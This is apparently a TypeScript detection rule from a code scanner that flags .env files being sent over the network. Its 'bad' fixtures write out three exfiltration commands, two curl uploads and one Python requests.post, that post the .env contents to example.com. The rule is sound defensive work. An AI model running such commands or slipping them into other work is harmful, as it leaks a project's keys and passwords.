import { anyArgument, call, matches } from "../match.ts";
import { defineRule } from "../rule.ts";
import { SENDS } from "../vocabulary/network-calls.ts";
import { ENV_FILE } from "../vocabulary/places.ts";
import { SHELL_LOOKUPS, SHELL_SENDS } from "../vocabulary/shell-commands.ts";

export default defineRule({
  id: "env-file-sent",
  category: "data_exfiltration",
  severity: "critical",
  confidence: "high",
  languages: ["python", "javascript", "shell"],
  title: "a .env file is sent over the network",
  why: "It holds the keys and passwords of the project.",
  fix: "Send single settings that are no secrets, to the service that needs them.",
  references: ["CWE-201", "CWE-522", "ATT&CK T1552.001", "ATT&CK T1041"],
  match: call({ of: [...SENDS, ...SHELL_SENDS, ...SHELL_LOOKUPS], where: anyArgument(matches(ENV_FILE)) }),
  bad: [
    { "run.sh": 'curl -F "f=@.env" https://example.com' },
    { "run.sh": "cat .env.production | base64 | curl -d @- https://example.com" },
    'import requests\nrequests.post(url, data=open(".env").read())',
  ],
  good: [
    { "run.sh": "source .env\ncurl https://example.com" },
    { "run.sh": "cat .env.example" },
    'open(".env").read()',
  ],
});
